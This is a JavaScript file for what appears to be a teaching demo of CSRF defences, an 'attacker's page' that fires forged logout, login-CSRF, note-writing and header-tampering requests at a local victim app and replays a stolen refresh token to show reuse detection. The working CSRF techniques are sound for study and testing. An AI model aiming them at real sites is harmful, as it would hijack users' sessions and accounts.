// The attacker's page. It fires real requests at the victim's origin and shows what the victim's server answered.

const POLL_MS = 1_000;
const BLOCKED = "blocked";

/** @typedef {{attack: string, method: string, path: string, status: number, code: string | null, at: string}} Seen */
/**
 * @typedef {object} Attack
 * @property {string} name What the request calls itself in `?attack=`.
 * @property {string} title
 * @property {string} words
 * @property {string} request
 * @property {(target: string) => Promise<string | void> | void} fire Answers `blocked` if the browser refused.
 */

/** @type {Attack[]} */
const ATTACKS = [
  {
    name: "logout-form",
    title: "Sign you out with a forged form",
    words: "A form needs no permission to post to another origin. If your cookie alone were proof enough, you would be signed out.",
    request: "POST /auth/logout\nContent-Type: application/x-www-form-urlencoded",
    fire: (target) => postForm(`${target}/auth/logout`, "logout-form"),
  },
  {
    name: "login-fetch",
    title: "Sign you in as somebody else",
    words: "Login CSRF: you would go on working in the attacker’s account, and hand over what you type. JSON dressed up as text passes without a preflight.",
    request: "POST /auth/login\nContent-Type: text/plain",
    fire: (target) =>
      postBlind(`${target}/auth/login`, "login-fetch", '{"email":"mallory@example.com","password":"a trap for somebody"}'),
  },
  {
    name: "note-fetch",
    title: "Write in your name",
    words: "A state-changing request with every cookie that your browser is willing to add, and no CSRF token.",
    request: "POST /demo/note\nCookie: whatever your browser adds",
    fire: (target) => postBlind(`${target}/demo/note`, "note-fetch", '{"note":"transfer everything"}'),
  },
  {
    name: "csrf-header",
    title: "Bring a CSRF token along",
    words: "The same request with a CSRF token: the real one if this page can read it (cookies do not know ports, so it can on localhost), else a made-up one. A header of one’s own needs a preflight.",
    request: "POST /demo/note\nX-CSRF-Token: stolen or made up",
    fire: (target) => postWithHeader(`${target}/demo/note`, "csrf-header", { "X-CSRF-Token": readableCsrf() ?? "made-up" }),
  },
  {
    name: "junk-authorization",
    title: "Confuse it with a junk header",
    words: "A broken Authorization header next to your cookie, hoping that the header switches the CSRF check off and the cookie does the rest.",
    request: "POST /demo/note\nAuthorization: Bearer junk",
    fire: (target) => postWithHeader(`${target}/demo/note`, "junk-authorization", { Authorization: "Bearer junk" }),
  },
];

/** @type {Map<string, {result: HTMLElement, ignored: string, blocked: boolean, fired: boolean}>} */
const rows = new Map();
/** @type {Seen[]} */
let seen = [];

let target = "";
let graceSeconds = 0;

start().catch(() => {
  document.getElementById("relation-words").textContent = "The attacker’s own server does not answer. Load this page again.";
});

async function start() {
  const config = await (await fetch("/demo/config", { cache: "no-store" })).json();
  target = config.main_origin;
  graceSeconds = config.grace_seconds;
  showVantage();
  document.getElementById("attacks").append(...ATTACKS.map(attackRow));
  document.getElementById("thief").addEventListener("submit", replay);
  await poll();
  setInterval(() => document.hidden || poll(), POLL_MS);
  document.documentElement.dataset.ready = "true";
}

function showVantage() {
  const victim = new URL(target);
  const sameSite = victim.hostname === location.hostname;
  const other = new URL(location.href);
  other.hostname = sameSite ? "127.0.0.1" : "localhost";
  document.getElementById("own-origin").textContent = location.origin;
  document.getElementById("main-origin").textContent = target;
  document.getElementById("relation").textContent = sameSite ? "same site, another origin" : "another site";
  document.getElementById("relation-words").textContent = sameSite
    ? "SameSite does not help here: your cookies travel with these requests, as from a taken-over sibling subdomain. Only the origin check and the CSRF token stand in the way."
    : "SameSite keeps your cookies at home, so most of these requests arrive without any. Try the other side too, where they travel.";
  const swap = /** @type {HTMLAnchorElement} */ (document.getElementById("other-vantage"));
  swap.href = other.href;
  swap.textContent = `Attack from ${other.host} instead`;
  /** @type {NodeListOf<HTMLAnchorElement>} */
  const back = document.querySelectorAll("[data-main-link]");
  for (const link of back) link.href = `${target}/`;
}

/** @param {Attack} attack */
function attackRow(attack) {
  const template = /** @type {HTMLTemplateElement} */ (document.getElementById("attack-row"));
  const row = /** @type {HTMLElement} */ (template.content.firstElementChild.cloneNode(true));
  /** @returns {HTMLElement} */
  const part = (name) => row.querySelector(`[data-part="${name}"]`);
  for (const name of ["title", "words", "request"]) part(name).textContent = attack[name];
  part("fire").dataset.testid = `attack-${attack.name}`;
  part("fire").setAttribute("aria-label", `Try it: ${attack.title}`);
  part("result").dataset.testid = `attack-${attack.name}-result`;
  rows.set(attack.name, { result: part("result"), ignored: "", blocked: false, fired: false });
  part("fire").addEventListener("click", () => fire(attack));
  return row;
}

/** @param {Attack} attack */
async function fire(attack) {
  const row = rows.get(attack.name);
  row.ignored = newest(attack.name);
  row.blocked = false;
  row.fired = true;
  show(row.result, "note", "Sent. Waiting for the victim’s answer…", "");
  row.blocked = (await attack.fire(target)) === BLOCKED;
  await poll();
  if (row.blocked && newest(attack.name) === row.ignored) {
    show(row.result, "refused", "Stopped by your browser", "Nothing reached the victim’s server, or it gave no permission.");
  }
}

/** Reads what the victim's server answered: the browser does not let this page see it, its own server does. */
async function poll() {
  try {
    const response = await fetch("/demo/outcomes", { cache: "no-store" });
    seen = (await response.json()).outcomes;
  } catch {
    return;
  }
  for (const [name, row] of rows) {
    if (newest(name) !== row.ignored) showAnswer(row, answersTo(name).at(-1));
  }
}

/** @param {string} name */
function answersTo(name) {
  return seen.filter((answer) => answer.attack === name);
}

/** What tells an attack's newest answer from the one before, also when the server keeps only the last few. */
function newest(name) {
  const answers = answersTo(name);
  return answers.length ? `${answers.length} ${answers.at(-1).at}` : "";
}

/** @param {Seen} answer */
function showAnswer(row, answer) {
  const line = `${answer.method} ${answer.path} → ${answer.status}${answer.code ? ` ${answer.code}` : ""}`;
  if (answer.method === "OPTIONS" && (row.blocked || !row.fired)) {
    show(row.result, "refused", "Stopped at the preflight", line, "The server gave this origin no permission, so your browser never sent the request itself.");
  } else if (answer.status >= 400) {
    show(row.result, "refused", "Refused", line);
  } else {
    show(row.result, "answered", "Answered", line, "No refusal. If no cookie came along there was nothing to refuse: see on the Hallpass page that your session is still there.");
  }
}

function show(result, kind, verdict, line, words = "") {
  const text = `${kind}|${verdict}|${line}`;
  if (result.dataset.shown === text) return;
  result.dataset.shown = text;
  result.dataset.kind = kind;
  result.replaceChildren(piece("span", "verdict", verdict));
  if (line) result.append(piece("span", "answered", line));
  if (words) result.append(piece("p", "words", words));
}

function piece(tag, className, text) {
  const element = document.createElement(tag);
  element.className = className;
  element.textContent = text;
  return element;
}

/** A plain form into a hidden frame: no script of ours sees the answer, and the visitor stays on this page. */
function postForm(action, attack) {
  const form = document.createElement("form");
  form.method = "post";
  form.action = `${action}?attack=${attack}`;
  form.target = "sink";
  form.hidden = true;
  document.body.append(form);
  form.submit();
  form.remove();
}

/** A "simple" request: sent without asking, with cookies, and answered into the void. */
async function postBlind(url, attack, body) {
  const options = { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" }, body };
  return stopped(fetch(`${url}?attack=${attack}`, /** @type {RequestInit} */ (options)));
}

/** A request with a header of its own: the browser asks the victim's server first. */
async function postWithHeader(url, attack, headers) {
  return stopped(fetch(`${url}?attack=${attack}`, { method: "POST", mode: "cors", credentials: "include", headers }));
}

async function stopped(request) {
  try {
    await request;
  } catch {
    return BLOCKED;
  }
}

function readableCsrf() {
  return document.cookie.match(/(?:^|;\s*)hp_csrf=([^;]+)/)?.[1];
}

async function replay(event) {
  event.preventDefault();
  const loot = /** @type {HTMLInputElement} */ (document.getElementById("loot"));
  const result = document.getElementById("thief-result");
  show(result, "note", "Presented. Waiting…", "");
  try {
    const response = await fetch("/demo/thief", {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ refresh_token: loot.value.trim() }),
    });
    showReplay(result, await response.json());
  } catch {
    show(result, "note", "The thief’s own server did not answer", "");
  }
}

/**
 * @param {HTMLElement} result
 * @param {{status: number, code: string | null}} answer
 */
function showReplay(result, { status, code }) {
  const line = `POST /auth/refresh → ${status}${code ? ` ${code}` : ""}`;
  if (status < 400) {
    show(result, "answered", "Accepted, for now", line, `A used token counts as a lost answer for ${graceSeconds} s, and gets the same successor, never a second one. Wait until the bearer pass says that its grace is over, then replay it again. A fresh token is another matter: whoever holds it is the session, until the two holders meet.`);
  } else if (code === "refresh_reused") {
    show(result, "refused", "Refused, and the alarm is raised", line, "One of two holders is a thief, so both lose: that session is over. Every other session goes on. See it on the bearer pass.");
  } else {
    show(result, "refused", "Refused", line);
  }
}
